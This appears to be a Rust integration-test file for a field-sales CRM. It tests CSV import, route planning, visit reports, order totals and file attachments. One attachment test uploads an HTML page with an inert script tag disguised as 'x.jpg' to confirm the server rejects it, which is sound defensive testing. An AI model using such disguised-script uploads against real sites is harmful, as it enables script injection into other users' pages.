    let csv = "Name,City,Phone,Territory\n\
               Acme GmbH.,Berlin,,north\n\
               Borg AG,Hamburg,+49 40 5550 1234,north\n\
               Borg Handel,Bremen,+49 40 5550 1234,north\n\
               Quiet Ltd,Leeds,,north\n";
    let preview = fx.import_preview(&olivia, "account", csv).await;
    let fields: Vec<String> = (0..4).map(|i| mapped(&preview.body, i)).collect();
    assert_eq!(fields, ["name", "address.city", "phone", "territory"]);
    let run = fx.import_run(&olivia, "account", csv, &fields, &[]).await;
    assert!(
        run.body.contains("<strong class=\"imported\">4</strong>"),
        "{}",
        run.body
    );
    let similar = between(&run.body, "<table class=\"similar\">", "</table>");
    assert!(
        similar.contains("<td>2</td>") && similar.contains(">Acme GmbH<"),
        "{similar}"
    );
    assert!(
        similar.contains("<td>4</td>") && similar.contains("line 3 of this file"),
        "{similar}"
    );
    assert!(similar.contains("same phone"), "{similar}");
    assert!(!similar.contains("<td>5</td>"), "{similar}");
}

#[tokio::test]
async fn a_reps_route_for_a_day_orders_the_visits_and_plots_them() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let mut visits = Vec::new();
    for (name, lon, at) in [
        ("Far", "0.3", "09:00"),
        ("Near", "0.1", "15:00"),
        ("Mid", "0.2", "11:00"),
    ] {
        let account = fx
            .create(
                &olivia,
                "accounts",
                &[
                    ("name", name),
                    ("territory", "north"),
                    ("geo.lat", "51.0"),
                    ("geo.lon", lon),
                ],
            )
            .await;
        let subject = format!("Visit {name}");
        let due = format!("2026-11-24T{at}");
        visits.push(
            fx.create(
                &olivia,
                "activities",
                &[
                    ("kind", "visit"),
                    ("subject", &subject),
                    ("related_to", &account),
                    ("due_at", &due),
                    ("territory", "north"),
                ],
            )
            .await,
        );
    }
    let page = fx.get(&olivia, "/route?owner=olivia&day=2026-11-24").await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    let table = between(&page.body, "<table class=\"route\">", "</table>");
    // From the first stop on, along the line (starting at either end is as short).
    let order: Vec<usize> = ["Visit Far", "Visit Mid", "Visit Near"]
        .iter()
        .map(|s| table.find(s).unwrap())
        .collect();
    assert!(
        (order[0] < order[1] && order[1] < order[2])
            || (order[0] > order[1] && order[1] > order[2]),
        "{table}"
    );
    assert!(
        page.body.contains("<svg class=\"route-map\""),
        "{}",
        page.body
    );
    assert_eq!(page.body.matches("<circle").count(), 3);
    let other_day = fx.get(&olivia, "/route?owner=olivia&day=2026-11-25").await;
    assert!(
        other_day.body.contains("No open visits"),
        "{}",
        other_day.body
    );
    let bad = fx.get(&olivia, "/route?day=someday").await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn a_weeks_visits_show_planned_and_done_with_time_on_site() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let acme = fx.account(&olivia, "Acme", "north").await;
    let mut ann = fx.device("ann");
    fx.sync(&mut ann).await;
    let now = fieldcrm_core::parse_datetime("2030-01-15T10:00").unwrap();
    let visit = |subject: &str| {
        fieldcrm_core::fields([
            ("kind", Value::from("visit")),
            ("subject", Value::from(subject)),
            ("purpose", "restock".into()),
            ("related_to", acme.as_str().into()),
            ("due_at", Value::Int(now)),
            ("territory", "north".into()),
        ])
    };
    let done = ann.create(Kind::Activity, visit("Visit one")).unwrap().id;
    ann.create(Kind::Activity, visit("Visit two")).unwrap();
    ann.check_in(&done, Some((52.52, 13.4)), 250.0).unwrap();
    let report = fieldcrm_core::VisitReport {
        outcome: "successful".into(),
        notes: "Ordered".into(),
        next_step: None,
    };
    ann.check_out(&done, None, report).unwrap();
    fx.sync(&mut ann).await;
    let page = fx.get(&olivia, "/visits?owner=ann&week=2030-01-17").await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    assert!(
        page.body.contains("Visits, week of 2030-01-14"),
        "{}",
        page.body
    );
    let summary = between(&page.body, "<table class=\"records summary\">", "</table>");
    assert!(
        summary.contains("<td>ann</td><td class=\"num\">2</td><td class=\"num\">1</td>"),
        "{summary}"
    );
    assert!(
        page.body.contains("data-status=\"done\"") && page.body.contains("successful"),
        "{}",
        page.body
    );
    assert!(
        page.body.contains(">Acme</a>"),
        "the customer by name: {}",
        page.body
    );
    let other = fx.get(&olivia, "/visits?owner=ann&week=2030-01-21").await;
    assert!(other.body.contains("No visits planned this week."));
    let bad = fx.get(&olivia, "/visits?week=someday").await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn an_orders_page_lists_its_lines_and_totals_adds_lines_and_prints() {
    use fieldcrm_core::{Edit, SHARED_TERRITORY};
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let office = fx.relay.user("olivia").unwrap().unwrap().0;
    let create = |kind: Kind, f: fieldcrm_core::Fields| {
        fieldcrm_server::relay::office::edit_one(
            &*fx.relay,
            &office,
            Edit::Create { kind, fields: f },
        )
        .unwrap()
        .id
    };
    let bolt = create(
        Kind::Product,
        fieldcrm_core::fields([
            ("sku", "B-1"),
            ("name", "Bolt"),
            ("unit", "box"),
            ("territory", SHARED_TERRITORY),
        ]),
    );
    create(
        Kind::Price,
        fieldcrm_core::fields([
            ("product_id", Value::from(bolt.as_str())),
            ("currency", "EUR".into()),
            ("unit_price", Value::Int(1250)),
            ("territory", SHARED_TERRITORY.into()),
        ]),
    );
    let form = fx.get(&olivia, "/products/new").await;
    let territory = between(&form.body, "<select id=\"territory\"", "</select>");
    assert!(
        territory.contains("*organisation") && !territory.contains("north"),
        "{territory}"
    );
    let acme = fx.account(&olivia, "Acme", "north").await;
    let order = fx
        .create(
            &olivia,
            "orders",
            &[
                ("account_id", &acme),
                ("name", "Spring order"),
                ("currency", "EUR"),
                ("tax_percent", "10"),
                ("territory", "north"),
            ],
        )
        .await;
    let added = fx
        .post(
            &olivia,
            &format!("/r/{order}/lines"),
            &[("product_id", &bolt), ("quantity", "4"), ("discount", "50")],
        )
        .await;
    assert_eq!(added.status, StatusCode::SEE_OTHER, "{}", added.body);
    let typed = fx
        .post(
            &olivia,
            &format!("/r/{order}/lines"),
            &[
                ("product_id", ""),
                ("product_id.name", "Bolt"),
                ("quantity", "2"),
            ],
        )
        .await;
    assert_eq!(
        typed.status,
        StatusCode::SEE_OTHER,
        "without script, the typed name: {}",
        typed.body
    );
    let page = fx.get(&olivia, &format!("/r/{order}")).await;
    let lines = between(&page.body, "<table class=\"records lines\">", "</table>");
    assert_eq!(lines.matches("data-line=").count(), 2, "{lines}");
    // 4 × 12.50 − 50 % + 2 × 12.50 = 50.00; 10 % tax: 55.00.
    assert!(lines.contains("data-total=\"5500\""), "{lines}");
    assert!(
        lines.contains(">Bolt</a>") && lines.contains("4 box"),
        "{lines}"
    );
    let bad = fx
        .post(
            &olivia,
            &format!("/r/{order}/lines"),
            &[("product_id", &bolt), ("quantity", "0")],
        )
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(bad.body.contains("more than 0"), "{}", bad.body);
    let print = fx.get(&olivia, &format!("/r/{order}/print")).await;
    assert_eq!(print.status, StatusCode::OK);
    assert!(
        print.body.contains("Order: Spring order") && print.body.contains("data-total=\"5500\""),
        "{}",
        print.body
    );
    let not_order = fx.get(&olivia, &format!("/r/{acme}/print")).await;
    assert_eq!(not_order.status, StatusCode::NOT_FOUND);
    // Submitted: a rep's line is refused with the rule, the office's taken.
    let submitted = fx
        .post(
            &olivia,
            &format!("/r/{order}"),
            &[
                ("account_id", &acme),
                ("name", "Spring order"),
                ("status", "submitted"),
                ("currency", "EUR"),
                ("territory", "north"),
            ],
        )
        .await;
    assert_eq!(
        submitted.status,
        StatusCode::SEE_OTHER,
        "{}",
        submitted.body
    );
    let ann = fx.sign_in("ann").await;
    let refused = fx
        .post(
            &ann,
            &format!("/r/{order}/lines"),
            &[("product_id", &bolt), ("quantity", "1")],
        )
        .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        refused.body.contains("a submitted order is the office"),
        "{}",
        refused.body
    );
    let page = fx.get(&ann, &format!("/r/{order}")).await;
    assert_eq!(
        page.body.matches("data-line=").count(),
        2,
        "the form's edit kept the lines"
    );
    assert!(
        page.body.contains("only the office changes it"),
        "{}",
        page.body
    );
}

/// Attachments on the record page (issue 17): a rep's file shows with its
/// caption and downloads byte-identical with safe headers; the office
/// attaches one through the page (the bytes decide the type: a page named
/// .jpg is refused) and it reaches the rep's device; removing takes it off;
/// a rep of another territory gets neither the page nor the file.
#[tokio::test]
async fn attachments_show_download_attach_and_remove_on_the_record_page() {
    let fx = fixture();
    let mut ann = fx.device("ann");
    let acme = ann
        .create(
            fieldcrm_core::Kind::Account,
            fieldcrm_core::fields([("name", "Acme"), ("territory", "north")]),
        )
        .unwrap()
        .id;
    let note = b"Delivery note 4711: 12 cases, signed J. Doe".to_vec();
    let (aid, _) = ann
        .add_attachment(&acme, "note.txt", "text/plain", &note, Some("Signed note"))
        .unwrap();
    fx.sync(&mut ann).await;
    let sha = fieldcrm_core::sha256_hex(&note);
    let ann_user = fx.relay.user("ann").unwrap().unwrap().0;
    fieldcrm_server::relay::blobs::upload(&*fx.relay, &ann_user, &sha, 0, &note, u64::MAX).unwrap();

    let olivia = fx.sign_in("olivia").await;
    let page = fx.get(&olivia, &format!("/r/{acme}")).await;
    assert!(
        page.body.contains("note.txt") && page.body.contains("Signed note"),
        "{}",
        page.body
    );
    let href = format!("/r/{acme}/files/{aid}");
    let response = fx
        .app
        .clone()
        .oneshot(
            Request::get(href.as_str())
                .header(header::COOKIE, &olivia.cookie)
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(
        response.headers()[header::CONTENT_DISPOSITION],
        "attachment; filename=\"note.txt\""
    );
    assert_eq!(
        response.headers()[header::X_CONTENT_TYPE_OPTIONS],
        "nosniff"
    );
    let got = response.into_body().collect().await.unwrap().to_bytes();
    assert_eq!(got.as_ref(), &note[..]);

    let sam = fx.sign_in("sam").await;
    assert_eq!(fx.get(&sam, &href).await.status, StatusCode::NOT_FOUND);

    // The office attaches a photo; a disguised page is refused.
    let upload = |name: &str, bytes: &[u8]| {
        let boundary = "XBOUNDARYX";
        let mut body = Vec::new();
        for (field, value) in [("_csrf", olivia.csrf.as_str()), ("caption", "Shelf")] {
            body.extend(format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"\r\n\r\n{value}\r\n").bytes());
        }
        body.extend(format!("--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: image/jpeg\r\n\r\n").bytes());
        body.extend_from_slice(bytes);
        body.extend(format!("\r\n--{boundary}--\r\n").bytes());
        Request::post(format!("/r/{acme}/files"))
            .header(header::COOKIE, &olivia.cookie)
            .header(header::HOST, "crm.example")
            .header(header::ORIGIN, "http://crm.example")
            .header(
                header::CONTENT_TYPE,
                format!("multipart/form-data; boundary={boundary}"),
            )
            .body(Body::from(body))
            .unwrap()
    };
    let refused = fx
        .send(upload("x.jpg", b"<!DOCTYPE html><script>1</script>"))
        .await;
    assert_eq!(refused.status, StatusCode::BAD_REQUEST, "{}", refused.body);
    assert!(
        refused
            .body
            .contains("content is text/html, not image/jpeg"),
        "says what the file is: {}",
        refused.body
    );
    let jpeg = photo(400, 300);
    let added = fx.send(upload("shelf.jpg", &jpeg)).await;
    assert_eq!(added.status, StatusCode::SEE_OTHER, "{}", added.body);
    fx.sync(&mut ann).await;
    let files = ann.attachments(&acme).unwrap();
    assert_eq!(files.len(), 2, "{files:?}");
    let (shelf_id, shelf) = &files[1];
    assert_eq!(
        (shelf.name.as_str(), shelf.added_by.as_str()),
        ("shelf.jpg", "olivia")
    );
    assert!(shelf.thumbnail.is_some(), "the office made a thumbnail");

    // A rep's photo shows as its thumbnail before its file is uploaded.
    let (card_id, _) = ann
        .add_attachment(&acme, "card.jpg", "image/jpeg", &photo(640, 480), None)
        .unwrap();
    fx.sync(&mut ann).await;
    let page = fx.get(&olivia, &format!("/r/{acme}")).await;
    for id in [shelf_id, &card_id] {
        assert!(
            page.body.contains(&format!("/r/{acme}/files/{id}/thumb")),
            "a thumbnail of {id}"
        );
    }
    let thumb = fx
        .app
        .clone()
        .oneshot(
            Request::get(format!("/r/{acme}/files/{card_id}/thumb"))
                .header(header::COOKIE, &olivia.cookie)
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(thumb.status(), StatusCode::OK);
    assert_eq!(thumb.headers()[header::CONTENT_TYPE], "image/jpeg");
    let got = thumb.into_body().collect().await.unwrap().to_bytes();
    let small = image::load_from_memory(&got).unwrap();
    assert_eq!((small.width(), small.height()), (128, 96));
    let thumb_href = format!("/r/{acme}/files/{card_id}/thumb");
    assert_eq!(
        fx.get(&sam, &thumb_href).await.status,
        StatusCode::NOT_FOUND
    );
    // A file with no thumbnail (the note) has no thumbnail to serve.
    let none = fx.get(&olivia, &format!("{href}/thumb")).await;
    assert_eq!(none.status, StatusCode::NOT_FOUND);

    // The office captions the rep's photo; the rep sees it.
    let captioned = fx
        .post(
            &olivia,
            &format!("/r/{acme}/files/{card_id}/caption"),
            &[("caption", "Jane Doe, buyer")],
        )
        .await;
    assert_eq!(
        captioned.status,
        StatusCode::SEE_OTHER,
        "{}",
        captioned.body
    );
    fx.sync(&mut ann).await;
    let card = ann.attachments(&acme).unwrap();
    let (_, card) = card.iter().find(|(id, _)| *id == card_id).unwrap();
    assert_eq!(card.caption.as_deref(), Some("Jane Doe, buyer"));
    assert!(card.thumbnail.is_some(), "a caption keeps the thumbnail");

    let removed = fx
        .post(&olivia, &format!("/r/{acme}/files/{aid}/remove"), &[])
        .await;
    assert_eq!(removed.status, StatusCode::SEE_OTHER, "{}", removed.body);
    fx.sync(&mut ann).await;
    assert_eq!(ann.attachments(&acme).unwrap().len(), 2);
}

/// A photo-like JPEG (noise compresses as a camera's pictures do).
fn photo(width: u32, height: u32) -> Vec<u8> {
    let picture = image::RgbImage::from_fn(width, height, |x, y| {
        image::Rgb([(x % 251) as u8, (y % 241) as u8, ((x * y) % 239) as u8])
    });
    let mut out = std::io::Cursor::new(Vec::new());
    picture
        .write_to(&mut out, image::ImageFormat::Jpeg)
        .unwrap();
    out.into_inner()
}
